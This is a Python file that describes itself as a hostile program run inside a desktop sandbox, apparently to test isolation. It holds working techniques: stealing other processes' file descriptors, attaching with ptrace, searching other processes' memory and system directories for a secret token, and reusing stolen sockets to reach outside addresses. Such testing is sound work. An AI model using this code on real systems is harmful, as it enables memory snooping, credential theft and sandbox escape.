"""A hostile program that runs inside a desktop: tries every way out that it knows and reports as JSON what it got.

It uses the standard library only. Its argument is JSON: ``targets``, addresses outside; ``listen``, a port to listen on
for the world; ``secret``, the desktop's token backwards, so that its own memory is not what it finds.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import re
import socket
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

PIDFD_OPEN, PIDFD_GETFD = 434, 438  # numbers of system calls, the same on every architecture
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
DESCRIPTORS = 256
BLOCK = 1 << 24
HOLD = 20.0  # seconds that a listening socket is held
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def processes() -> Iterator[tuple[int, str]]:
    """Every other process: pid, command line."""
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            with contextlib.suppress(OSError):
                words = Path(f"/proc/{name}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
                yield int(name), words.strip() or f"process {name}"


def copied(pid: int) -> list[int]:
    """Copies of a process's descriptors."""
    watch = LIBC.syscall(PIDFD_OPEN, pid, 0)
    if watch < 0:
        return []
    found = [LIBC.syscall(PIDFD_GETFD, watch, number, 0) for number in range(DESCRIPTORS)]
    os.close(watch)
    return [number for number in found if number >= 0]


def traced(pid: int) -> bool:
    if LIBC.ptrace(PTRACE_SEIZE, pid, None, None) < 0:
        return False
    LIBC.ptrace(PTRACE_DETACH, pid, None, None)
    return True


def opened(pid: int) -> list[str]:
    """Which of a process's private files can be used."""
    out = []
    for name in ("mem", "environ"):
        with contextlib.suppress(OSError):
            os.close(os.open(f"/proc/{pid}/{name}", os.O_RDONLY))
            out.append(name)
    with contextlib.suppress(OSError):
        out += [f"fd/{name}" for name in os.listdir(f"/proc/{pid}/fd")]
    return out


def holds(pid: int, secret: bytes) -> bool:
    """Whether the readable memory of a process contains the secret."""
    with contextlib.suppress(OSError, ValueError), open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
            start, end = (int(part, 16) for part in re.split(r"[- ]", line)[:2])
            if line.split()[1].startswith("r") and not line.endswith(("[vvar]", "[vsyscall]")):
                with contextlib.suppress(OSError):
                    memory.seek(start)
                    if secret in memory.read(min(end - start, BLOCK)):
                        return True
    return False


def files_with(secret: bytes) -> list[str]:
    """Files of the desktop that contain the secret."""
    found = []
    for top in ("/run", "/tmp", "/home", "/dev/shm", "/etc"):
        for folder, _, names in os.walk(top):
            for path in (Path(folder) / name for name in names):
                with contextlib.suppress(OSError):
                    if path.is_file() and path.stat().st_size < BLOCK and secret in path.read_bytes():
                        found.append(str(path))
    return found


def sockets(numbers: list[int]) -> Iterator[socket.socket]:
    for number in numbers:
        with contextlib.suppress(OSError):
            yield socket.socket(fileno=number)


def reached(probe: socket.socket, targets: list[Any]) -> list[str]:
    """The addresses to which a socket could be connected."""
    out = []
    for address in targets:
        here = f"\0{address}" if isinstance(address, str) else tuple(address)
        if (probe.family == socket.AF_UNIX) != isinstance(address, str):
            continue
        if probe.family == socket.AF_INET:  # a UNIX socket of the X server would break with its connection
            with contextlib.suppress(OSError):
                probe.shutdown(socket.SHUT_RDWR)
        with contextlib.suppress(OSError):
            probe.settimeout(3)
            probe.connect(here)
            out.append(str(address))
    return out


def listens(probe: socket.socket, port: int) -> bool:
    if probe.family != socket.AF_INET:
        return False
    try:
        probe.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        probe.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        probe.bind(("0.0.0.0", port))
        probe.listen()
    except OSError:
        return False
    return True


def main(order: dict[str, Any]) -> dict[str, Any]:
    targets, secret = order["targets"], order["secret"][::-1].encode()
    report: dict[str, Any] = {"reached": [], "processes": [], "files": files_with(secret)}
    held = []
    for pid, words in list(processes()):
        taken = copied(pid)
        known = {"words": words, "copied": len(taken), "opened": opened(pid), "holds": holds(pid, secret)}
        report["processes"].append(known | {"traced": traced(pid)})
        for probe in sockets(taken):
            report["reached"] += [f"{words}: {where}" for where in reached(probe, targets)]
            held += [probe] if listens(probe, order["listen"]) else []
    for family in (socket.AF_INET, socket.AF_UNIX):
        for address in targets:
            with socket.socket(family) as probe:
                report["reached"] += reached(probe, [address])
    held += [probe for probe in [socket.socket(socket.AF_INET)] if listens(probe, order["listen"])]
    report["listening"] = len(held)
    if os.fork() == 0:
        os.setsid()
        time.sleep(HOLD)
        os._exit(0)
    return report


if __name__ == "__main__":
    print(json.dumps(main(json.loads(sys.argv[1]))))
